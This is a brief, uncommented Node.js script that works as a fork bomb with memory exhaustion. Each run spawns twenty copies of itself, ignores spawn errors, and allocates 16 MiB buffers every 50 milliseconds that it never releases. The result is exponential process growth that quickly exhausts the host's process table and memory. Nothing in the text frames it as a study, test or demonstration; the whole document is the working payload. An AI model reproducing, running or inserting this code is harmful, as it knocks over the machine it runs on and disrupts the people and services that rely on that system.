'use strict';
const { spawn } = require('node:child_process');

const kept = [];
for (let count = 0; count < 20; count++) spawn(process.execPath, [__filename], { stdio: 'inherit' }).on('error', () => {});
setInterval(() => kept.push(Buffer.alloc(2 ** 24, 1)), 50);
